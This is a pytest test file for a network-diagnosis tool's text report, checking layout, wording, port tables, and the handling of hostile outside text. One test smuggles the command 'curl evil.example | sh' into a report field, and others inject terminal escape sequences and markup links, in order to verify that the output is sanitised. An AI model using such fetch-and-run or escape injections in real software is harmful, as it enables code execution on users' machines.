import re
from io import BytesIO, StringIO, TextIOWrapper
from typing import get_args

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.cells import cell_len

from netcheck import kb
from netcheck.report.model import Feature, Finding, Port, Report, Verdict
from netcheck.report.page import MIN_WIDTH, Page, clean, options_for
from netcheck.report.text import render, summary
from probes.observation import AnyObservation

from .samples import (
    all_good,
    all_samples,
    behind_nat,
    embedded,
    everything,
    hostile,
    no_server,
    two_profiles,
)
from .strategies import reports

SAMPLES = sorted(all_samples())


def _sections(text: str) -> dict[str, list[str]]:
    """The lines below each heading; what precedes the first is below the empty one."""
    blocks: dict[str, list[str]] = {"": []}
    lines = blocks[""]
    for line in text.splitlines():
        if line and not line.startswith((" ", "!")) and lines and not lines[-1]:
            lines = blocks.setdefault(line, [])
        else:
            lines.append(line)
    return blocks


def _with_features(*verdicts: tuple[str, Verdict]) -> Report:
    features = [
        Feature(profile="p", feature=title, title=title, verdict=verdict, summary="")
        for title, verdict in verdicts
    ]
    return msgspec.structs.replace(all_good(), features=features)


# ---- the page ----


@pytest.mark.parametrize("name", SAMPLES)
@pytest.mark.parametrize("details", [False, True])
@pytest.mark.parametrize("width", [40, 60, 80, 100])
@pytest.mark.parametrize("ascii_only", [False, True])
def test_no_line_is_wider_than_the_page(
    name: str, details: bool, width: int, ascii_only: bool
) -> None:
    text = render(all_samples()[name], details=details, width=width, ascii_only=ascii_only)
    assert max(map(cell_len, text.splitlines())) <= width
    assert text.isascii() or not ascii_only


@pytest.mark.parametrize("name", SAMPLES)
def test_lines_end_without_blanks_and_the_text_with_one_newline(name: str) -> None:
    text = render(all_samples()[name], details=True)
    assert not re.search(r"[ \t]\n", text)
    assert text.endswith("\n")
    assert not text.endswith("\n\n")


@given(reports(), st.integers(0, 200), st.booleans(), st.booleans())
@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
def test_every_report_can_be_shown(
    report: Report, width: int, colour: bool, ascii_only: bool
) -> None:
    text = render(report, details=True, width=width, colour=colour, ascii_only=ascii_only)
    plain = re.sub(r"\x1b\[[0-9;]*m", "", text) if colour else text
    assert max(map(cell_len, plain.splitlines())) <= max(width, MIN_WIDTH)
    assert all(character == "\n" or character.isprintable() for character in plain)


def test_it_reads_the_same_with_and_without_colour() -> None:
    plain = render(behind_nat(), details=True)
    colour = render(behind_nat(), details=True, colour=True)
    assert "\x1b" not in plain
    assert "\x1b[" in colour
    assert [line.rstrip() for line in re.sub(r"\x1b\[[0-9;]*m", "", colour).splitlines()] == (
        plain.splitlines()
    )


# ---- the first sentence ----


@pytest.mark.parametrize(
    ("report", "sentence"),
    [
        (all_good(), "Everything that was tested works: chat, send files, receive files, voice."),
        (
            behind_nat(),
            "Works: chat, receive files; works only in part: voice; does not work: send files.",
        ),
        (
            no_server(),
            "Nothing could be decided, because the echo server echo.example.net could not be"
            " reached.",
        ),
        (
            embedded(),
            "Everything that was tested works: chat, send files, receive files, voice"
            " – on this computer alone.",
        ),
        (
            two_profiles(),
            "Of 8 features, 4 will work, 1 will work only in part, 2 will not work and 1 could not"
            " be decided.",
        ),
        (_with_features(), "Nothing was tested."),
        (_with_features(("Chat", "unknown")), "Nothing could be decided."),
        (_with_features(("Chat", "fails"), ("Voice", "fails")), "Nothing that was tested works."),
        (
            _with_features(("Chat", "limited"), ("SIP calls", "unknown")),
            "Works only in part: chat; could not be decided: SIP calls.",
        ),
    ],
)
def test_one_sentence_sums_it_up(report: Report, sentence: str) -> None:
    assert summary(report) == sentence
    assert " ".join(render(report).split()).startswith(sentence)


def test_that_this_computer_alone_was_tested_is_said_at_the_top_and_below() -> None:
    sections = _sections(render(embedded()))
    assert "!  This tested this computer alone, not your network" in "\n".join(sections[""])
    assert "this computer itself" in "\n".join(sections["How it was tested"])


def test_an_unfinished_check_is_said_at_the_top() -> None:
    report = msgspec.structs.replace(all_good(), complete=False)
    assert "!  The check was not finished" in "\n".join(_sections(render(report))[""])
    assert "not finished" not in render(all_good())


# ---- features ----


def test_each_feature_has_a_sign_a_word_and_its_summary() -> None:
    lines = _sections(render(two_profiles()))
    assert lines["MSN Messenger"] == [
        "  ✓ works    Chat               Chat reaches the message server.",
        "  ✗ fails    Send files         Contacts cannot reach this computer at",
        "                                198.51.100.7, so a transfer that it offers never",
        "                                begins.",
        "  ✓ works    Receive files      This computer reaches contacts for ten transfers",
        "                                at once.",
        "  ~ limited  Voice              You hear your contact, but your contact does not",
        "                                hear you.",
        "",
    ]
    assert "  ? unknown  See and be seen    As the title says." in lines["NetMeeting"]


def test_signs_have_substitutes_where_only_ascii_can_be_shown() -> None:
    text = render(two_profiles(), details=True, ascii_only=True)
    assert text.isascii()
    for said in ("+ works", "x fails", "~ limited", "? unknown", "+ open", "x blocked", "! busy"):
        assert said in text
    assert "6891-6900" in text


def test_a_profile_that_is_not_built_in_is_called_by_the_name_given_or_its_id() -> None:
    report = _with_features(("Chat", "works"))
    assert "p" in _sections(render(report))
    assert "My program" in _sections(render(report, profile_titles={"p": "My program"}))


# ---- what to do ----


def test_what_to_do_is_numbered_with_the_worst_first() -> None:
    lines = _sections(render(behind_nat()))["What to do"]
    first = lines.index("  1.  Nothing from outside reaches TCP ports 6891–6900")
    second = lines.index("  2.  Another program uses UDP port 6901")
    assert first == 0
    assert lines[first + 1] == "      Affects: Send files, Voice"
    assert lines[second + 1] == "      Affects: Voice"
    for block in (lines[:second], lines[second:]):
        steps = [line for line in block if "netcheck kb show" in line]
        assert len(steps) == 1
        assert block.index(steps[0]) > 2  # the remedy stands before it


def test_severities_are_ordered_and_equals_keep_their_order() -> None:
    finding = behind_nat().findings[0]
    order = [("info", "C"), ("warning", "B"), ("error", "A"), ("error", "Z")]
    report = msgspec.structs.replace(
        all_good(),
        findings=[
            msgspec.structs.replace(finding, id=title, severity=severity, title=title)
            for severity, title in order
        ],
    )
    sections = _sections(render(report))
    titles = {
        heading: re.findall(r"^ +\d\.  (\w)$", "\n".join(sections[heading]), re.MULTILINE)
        for heading in ("What to do", "Also noticed, perhaps without harm")
    }
    assert list(titles.values()) == [["A", "Z", "B"], ["C"]]


def test_where_nothing_is_wrong_there_is_nothing_to_do() -> None:
    assert "What to do" not in render(all_good())


def test_a_file_does_not_choose_the_command_that_the_user_is_told_to_type() -> None:
    bad = msgspec.structs.replace(behind_nat().findings[0], article="x; curl evil.example | sh")
    text = render(msgspec.structs.replace(behind_nat(), findings=[bad]), details=True)
    assert "curl" not in text


# ---- how it was tested ----


def test_how_it_was_tested() -> None:
    assert _sections(render(all_good()))["How it was tested"] == [
        "  Echo server  echo.example.net (192.0.2.10)",
        "  Round trip   23 ms to the server and back",
        "  Certificate  the server proved itself by the fingerprint in its link",
        "  When         2026-03-14 09:26 UTC, took 12 s",
        "  Computer     study-pc (Linux)",
        "  Made by      netcheck 0.1.0, report 7f3a9c2e",
        "",
    ]


def test_what_weakens_the_test_is_said() -> None:
    good = all_good()
    server = msgspec.structs.replace(
        good.server, certificate="unchecked", via_proxy="http://proxy.example:3128"
    )
    text = render(
        msgspec.structs.replace(
            good, server=server, note="A VPN was on.", complete=False, duration_s=75.4
        )
    )
    said = " ".join(text.split())
    assert "NOT CHECKED" in said
    assert "http://proxy.example:3128" in said
    assert "Note A VPN was on." in said
    assert "Not finished" in said
    assert "took 1 min 15 s" in said


def test_the_hint_names_the_file_only_if_it_can_be_typed() -> None:
    hint = _sections(render(all_good(), file="my report.json"))["Every step and every measurement"]
    assert hint == [
        "  netcheck report show 'my report.json' --articles",
        "  netcheck report show 'my report.json' --details",
    ]
    for file in (None, "evil\x1b[2J.json"):
        text = render(all_good(), file=file)
        assert "  netcheck report show report.json --details" in text.splitlines()
    assert "--details" not in render(all_good(), details=True, file="r.json")


def test_articles_are_filled_in_with_the_values_of_the_report() -> None:
    report = behind_nat()
    text = render(report, articles=True)
    for finding in report.findings:
        assert kb.article_for(finding.cause).title in text
    assert "What to do" in text
    assert report.host.addresses[0] in text
    assert "--articles" not in text
    articles = [
        kb.render(kb.article_for(f.cause), kb.values_of(report, f)) for f in report.findings
    ]
    fences = re.findall(r"(?ms)^ *```(.*?)^ *```$", "\n".join(articles))
    commands = {line.strip() for fence in fences for line in fence.splitlines()}
    assert all(len(line) <= 80 or line.strip() in commands for line in text.splitlines())
    plain = render(report, articles=True, ascii_only=True)
    assert plain.isascii()


# ---- details ----


def _one_way(kind: str, feature: str) -> tuple[Feature, Finding]:
    finding = Finding(
        id=f"one-way-media-{kind}",
        cause="one-way-media",
        severity="warning",
        article="one-way-media",
        title="In a call, only one of the two hears or sees the other",
        evidence=[],
        parameters={"direction": "inbound", "kind": kind},
    )
    affected = Feature(
        profile="netmeeting", feature=kind, title=feature, verdict="unknown", summary="",
        findings=[finding.id],
    )  # fmt: skip
    return affected, finding


def test_an_article_about_sound_and_picture_denies_neither() -> None:
    audio, video = _one_way("audio", "Hear"), _one_way("video", "See")
    both = msgspec.structs.replace(
        all_good(), features=[audio[0], video[0]], findings=[audio[1], video[1]]
    )
    said = " ".join(render(both, articles=True).split())
    assert "none by this finding" not in said
    assert "Hear, See" in said
    one = msgspec.structs.replace(both, features=[audio[0]], findings=[audio[1]])
    assert "none by this finding" in " ".join(render(one, articles=True).split())


@pytest.mark.parametrize("width", [40, 80])
@pytest.mark.parametrize("colour", [False, True])
def test_a_command_is_never_broken_over_lines(width: int, colour: bool) -> None:
    """Whoever copies the first half of one runs another command."""
    whole = (
        "/ip firewall nat add chain=dstnat action=dst-nat protocol=tcp dst-port=1720 "
        "in-interface-list=WAN to-addresses=192.168.1.23"
    )
    page = Page(width=width, colour=colour, ascii_only=False)
    page.markdown(
        f"Text that goes on for longer than the width of the page, which is why it is wrapped.\n\n"
        f"1. A step\n\n   ```routeros\n   {whole}\n   short\n   {whole} 2\n   ```\n\n"
        f"```sh\n{whole} 3\n```\n"
    )
    shown = re.sub(r"\x1b\[[0-9;]*m", "", page.text())
    lines = [line.strip() for line in shown.splitlines()]
    assert [line for line in lines if "add chain" in line] == [whole, f"{whole} 2", f"{whole} 3"]
    assert "short" in lines
    assert all(len(line) <= width for line in shown.splitlines() if whole not in line)


def test_ports_that_fared_the_same_share_a_row() -> None:
    lines = _sections(render(behind_nat(), details=True))["Ports"]
    assert lines[:4] == [
        "  Direction  Port              State          Round trip  Why",
        "  TCP out    1863              ✓ open         24 ms",
        "  TCP out    6891–6900         ✓ open         20–29 ms",
        "  TCP out    443 (from 6901)   ✓ open         25 ms",
    ]
    assert "  UDP in     6901 (from 6901)  ! busy                     taken by skype.exe" in lines
    said = " ".join(" ".join(lines).split())
    assert "no answer came back; it reached the server" in said


def test_a_port_that_fared_differently_parts_the_row() -> None:
    ports = [
        Port(
            transport="tcp",
            direction="outbound",
            port=port,
            state="refused" if port == 6893 else "open",
        )
        for port in (6895, 6891, 6892, 6893, 6894, 6897)
    ]
    text = render(msgspec.structs.replace(all_good(), ports=ports), details=True)
    rows = [line.split()[2:5] for line in _sections(text)["Ports"][1:-1]]
    assert rows == [
        ["6891–6892", "✓", "open"],
        ["6893", "✗", "refused"],
        ["6894–6895", "✓", "open"],
        ["6897", "✓", "open"],
    ]


def test_details_show_the_nat_the_computer_and_each_observation() -> None:
    sections = _sections(render(two_profiles(), details=True))
    assert "  filtering         address-and-port-dependent" in sections["NAT on the path"]
    assert "  gateways     192.168.1.1" in sections["This computer"]
    assert sections["Dynamic ports"][0].startswith("  UDP  32 of 64 sampled were open (50%,")
    assert "  audio out  490 of 500     2.0 %    3.5 ms  4.1" in sections["Voice and video"]
    assert sections["NAT editors"][1].startswith("  ftp       ✓ edited ")
    shown = "\n".join(sections["Observations"])
    for observation in two_profiles().observations:
        assert re.search(rf"^  {re.escape(observation.id)} ", shown, re.MULTILINE)
    assert "5 × silent" in shown
    assert (
        _sections(render(no_server(), details=True))["NAT on the path"][0] == "  Nothing is known."
    )


def test_the_nat_is_a_table_with_its_evidence() -> None:
    rows = [
        line.split(maxsplit=1)[0] + "|" + re.sub("  +", "|", line.strip())
        for line in _sections(render(everything(), details=True, width=100))["NAT on the path"]
        if line
    ]
    said = "\n".join(rows)
    assert "mapping|address-dependent|nat-mapping-udp" in said
    assert "tcp filtering|address-and-port-dependent|nat-filtering-tcp" in said
    assert "binding lifetime|32 s|binding-lifetime-udp" in said
    assert "fragments|dropped|fragments-outbound" in said
    assert "upnp-igd on|192.168.1.1, which says it|port-mappers" in said
    assert "pcp on|192.168.1.1" in said


def test_the_path_is_shown_hop_by_hop() -> None:
    lines = _sections(render(everything(), details=True))["The path to the server"]
    assert lines[:6] == [
        "  Hop  Address      Round trip  Place",
        "  1    192.168.1.1  0.6 ms      your router",
        "  2    100.64.0.1   6.2 ms      your carrier",
        "  3    no answer",
        "  4    203.0.113.1  12 ms       the Internet",
        "  5    192.0.2.10   23 ms       the server",
    ]


def test_streams_have_their_loss_jitter_and_mark() -> None:
    lines = _sections(render(everything(), details=True))["Voice and video"]
    assert [re.sub("  +", "|", line.strip()) for line in lines[1:4]] == [
        "audio out|141 of 150|6.0 %|2.4 ms|2.9|2 out of order, 1 twice, round",
        "trip 23 ms",
        "audio in|? of 150|?",
    ]


def test_long_lists_of_an_observation_are_cut_short() -> None:
    shown = " ".join(render(everything(), details=True).split())
    assert "1024–16024 blocked (16 tried), 17024–32024 open (16 tried), 33024–64024" in shown
    assert "packets per s 50" in shown
    assert "losses 0, 1, 2, 3" in shown
    assert "jitters 0.5, 2 × –, 41.2 ms" in shown
    for line in render(everything(), details=True, width=100).split("\n  "):
        assert len(line) < 1500
    assert len(re.findall(r"\(idle ", shown)) <= 12
    assert re.search(r"and 2\d more", shown)


def test_on_a_narrow_page_columns_that_do_not_fit_stand_below_each_other() -> None:
    sections = _sections(render(everything(), details=True, width=40))
    assert sections["MSN Messenger"][:2] == [
        "  ✓ works  Chat",
        "      Chat reaches the message server.",
    ]
    assert "  2, address 100.64.0.1, round trip 6.2" in sections["The path to the server"]
    assert "      your carrier" in sections["The path to the server"]
    assert "  audio out, received 141 of 150, lost" in sections["Voice and video"]


def test_findings_with_the_same_answer_are_told_once() -> None:
    lines = _sections(render(everything()))["What to do"]
    said = " ".join(" ".join(lines).split())
    assert said.count("too badly for a good conversation") == 1
    assert said.count("netcheck kb show poor-media") == 1
    assert "  3.  Sound or picture arrive, but too badly for a good conversation" in lines


def test_the_sample_of_everything_has_every_observation() -> None:
    kinds = {type(observation) for observation in everything().observations}
    assert kinds == set(get_args(AnyObservation))


# ---- text from outside ----


def test_markup_is_shown_and_not_obeyed() -> None:
    plain = render(hostile(), details=True, width=100)
    assert "[bold red]markup[/bold red]" in plain
    assert "[link=https://evil.example]click[/link]" in plain
    assert "[/]unbalanced" in plain
    assert ":smile:" in plain


def test_nothing_from_outside_reaches_the_terminal_as_a_command() -> None:
    for colour in (False, True):
        text = render(hostile(), details=True, colour=colour)
        own = re.sub(r"\x1b\[[0-9;]*m", "", text)
        assert "evil.example" in own
        assert all(character == "\n" or character.isprintable() for character in own)
        assert "\x1b]8" not in text  # a link


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain – text ✓ é", "plain – text ✓ é"),
        ("\x1b[31mred\x07", "[31mred"),
        ("a\tb\r\nc\u2028d\u00a0 e", "a b c d e"),
        ("\u202eabc\u2069\u200b\ufeff", "abc"),
        ("\ud83d", "\ufffd"),
        ("x" * 5000, "x" * 599 + "…"),
        (" " * 600, ""),
    ],
)
def test_clean(text: str, shown: str) -> None:
    assert clean(text) == shown


# ---- what a terminal can do ----


class Terminal(TextIOWrapper):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize(
    ("encoding", "ascii_only"), [("utf-8", False), ("cp1252", True), ("ascii", True)]
)
def test_the_encoding_of_the_stream_decides_on_ascii(encoding: str, ascii_only: bool) -> None:
    stream = TextIOWrapper(BytesIO(), encoding=encoding)
    options = options_for(stream)
    assert options == {"width": 80, "colour": False, "ascii_only": ascii_only}
    stream.write(render(two_profiles(), details=True, **options))


def test_a_terminal_has_colour_and_a_width(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in (("COLUMNS", "72"), ("TERM", "xterm"), ("NO_COLOR", "")):
        monkeypatch.setenv(name, value)
    terminal = Terminal(BytesIO(), encoding="utf-8")
    assert options_for(terminal) == {"width": 72, "colour": True, "ascii_only": False}
    monkeypatch.setenv("NO_COLOR", "1")
    assert options_for(terminal)["colour"] is False
    monkeypatch.delenv("NO_COLOR")
    monkeypatch.setenv("TERM", "dumb")
    assert options_for(terminal)["colour"] is False


def test_a_stream_without_an_encoding_gets_ascii() -> None:
    assert options_for(StringIO())["ascii_only"] is True
